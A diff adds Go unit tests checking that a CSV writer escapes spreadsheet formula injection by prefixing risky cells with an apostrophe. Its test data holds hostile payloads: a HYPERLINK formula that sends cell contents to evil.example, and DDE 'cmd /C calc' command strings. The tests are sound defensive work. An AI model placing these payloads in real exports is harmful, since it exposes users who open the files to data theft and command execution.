@@ -1,0 +1,75 @@
+package standards_test
+
+import (
+	"bytes"
+	"encoding/csv"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/eops/eops/standards"
+)
+
+// TestCSVWriterIsSafeInASpreadsheet writes hostile and awkward cells and
+// reads them back as a spreadsheet's CSV import would: formula prefixes
+// (= + - @ tab CR, and their full-width forms) come back as text behind an
+// apostrophe; commas, quotes and line breaks come back as written.
+func TestCSVWriterIsSafeInASpreadsheet(t *testing.T) {
+	t.Parallel()
+	cases := []struct{ in, want string }{
+		{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, `'=HYPERLINK("http://evil.example/?"&A1,"Click")`},
+		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
+		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
+		{"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
+		{"\t=1+1", "'\t=1+1"},
+		{"\r=1+1", "'\r=1+1"},
+		{"＝1+1", "'＝1+1"},
+		{"-", "'-"},
+		{"Smith, Ann", "Smith, Ann"},
+		{`Ann "Nan" Smith`, `Ann "Nan" Smith`},
+		{"two\nlines", "two\nlines"},
+		{"Ann O'Neil", "Ann O'Neil"},
+		{"a = b", "a = b"},
+		{"-3", "-3"},
+		{"+1.5", "+1.5"},
+		{"2/3", "2/3"},
+		{"", ""},
+	}
+	var in, want []string
+	for _, c := range cases {
+		in, want = append(in, c.in), append(want, c.want)
+	}
+	kept := append([]string(nil), in...)
+
+	var buf bytes.Buffer
+	w := standards.NewCSVWriter(&buf)
+	require.NoError(t, w.Write([]string{"header"}))
+	require.NoError(t, w.Write(in))
+	w.Flush()
+	require.NoError(t, w.Error())
+	assert.Equal(t, kept, in, "Write leaves the caller's row alone")
+
+	r := csv.NewReader(&buf)
+	r.FieldsPerRecord = -1
+	rows, err := r.ReadAll()
+	require.NoError(t, err)
+	require.Len(t, rows, 2)
+	assert.Equal(t, want, rows[1])
+
+	// Quoting, byte for byte.
+	buf.Reset()
+	require.NoError(t, standards.NewCSVWriter(&buf).WriteAll([][]string{{"Smith, Ann", `say "hi"`, "two\nlines", "=1"}}))
+	assert.Equal(t, "\"Smith, Ann\",\"say \"\"hi\"\"\",\"two\nlines\",'=1\n", buf.String())
+}
+
+func TestCSVCellLeavesNothingAFormula(t *testing.T) {
+	t.Parallel()
+	for _, s := range []string{"=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"} {
+		for _, rest := range []string{"", "1+1", "cmd|' /C calc'!A0", "A1"} {
+			got := standards.CSVCell(s + rest)
+			assert.True(t, strings.HasPrefix(got, "'"), "%q gives %q", s+rest, got)
+		}
+	}
+}
